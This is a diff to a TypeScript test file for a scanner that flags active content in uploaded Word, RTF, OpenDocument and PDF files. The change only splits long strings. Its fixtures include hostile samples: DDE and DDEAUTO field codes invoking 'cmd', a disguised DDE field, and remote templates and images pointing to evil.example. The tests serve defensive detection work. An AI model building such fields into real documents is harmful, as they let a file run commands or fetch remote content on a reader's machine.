@@ -4,7 +4,8 @@ import { findActiveContent, judgeDocument } from './extract-text.ts'
 import { createZip } from './testing/create-zip.ts'
 
 const types = (more = '') =>
-  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${more}</Types>`
+  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
+  `<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${more}</Types>`
 const docx = (
   body = '<w:p><w:r><w:t>Behavior Technician</w:t></w:r></w:p>',
   more: Record<string, string | Buffer> = {},
@@ -23,13 +24,17 @@ const template = (relationship: string) => docx(undefined, { 'word/_rels/setting
 const remote = `Type="${office}/attachedTemplate" Target="https://evil.example/t.dotm"`
 const field = (...codes: string[]) =>
   docx(
-    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
+    '<w:p><w:r><w:fldChar w:fldCharType="begin"/>' +
+      `</w:r>${codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('')}<w:r>` +
+      '<w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>' +
+      '</w:r></w:p>',
   )
 const rtf = (body: string) => Buffer.from(`{\\rtf1\\ansi ${body}}`, 'latin1')
 const pdf = (catalog: string, objects: string | Buffer) =>
   Buffer.concat([
     Buffer.from(
-      `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n`,
+      `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids ` +
+        '[3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n',
       'latin1',
     ),
     Buffer.from(objects),
@@ -83,7 +88,9 @@ const hostile: Record<string, Buffer> = {
   'a field by an entity': field(' &#68;DE cmd '),
   'a simple field': docx('<w:p><w:fldSimple w:instr="dde cmd"/></w:p>'),
   'a field whose name is made by another field': docx(
-    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
+    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>' +
+      '<w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r>' +
+      '<w:instrText> cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
   ),
   'a field in a footnote': docx(undefined, {
     'word/footnotes.xml': '<w:footnotes xmlns:w="w"><w:fldSimple w:instr="DDEAUTO cmd"/></w:footnotes>',
@@ -128,7 +135,8 @@ const hostile: Record<string, Buffer> = {
   'an OpenDocument picture elsewhere': createZip({
     mimetype: 'application/vnd.oasis.opendocument.text',
     'content.xml':
-      '<office:document-content xmlns:office="o" xmlns:draw="d" xmlns:xlink="x"><draw:image xlink:href="https://evil.example/a.png"/></office:document-content>',
+      '<office:document-content xmlns:office="o" xmlns:draw="d" xmlns:xlink="x">' +
+      '<draw:image xlink:href="https://evil.example/a.png"/></office:document-content>',
   }),
   'RTF with a template': rtf('{\\*\\template http://evil.example/t.dotm}'),
   'RTF with a template on the next line': rtf('{\\*\n\\template http://evil.example/t.dotm}'),
@@ -172,7 +180,10 @@ const ordinary: Record<string, Buffer> = {
   ),
   'page numbers, links and a table of contents': field(' HYPERLINK "https://example.com" \\h ', ''),
   'a condition with a page number in it': docx(
-    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> = 1 "a" "b"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
+    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r><w:r>' +
+      '<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r>' +
+      '<w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> = 1 "a" "b"</w:instrText></w:r><w:r>' +
+      '<w:fldChar w:fldCharType="end"/></w:r></w:p>',
   ),
   'words about DDE, templates and scripts': docx(
     '<w:p><w:r><w:t>DDEAUTO, altChunk, INCLUDETEXT, JavaScript</w:t></w:r></w:p>',
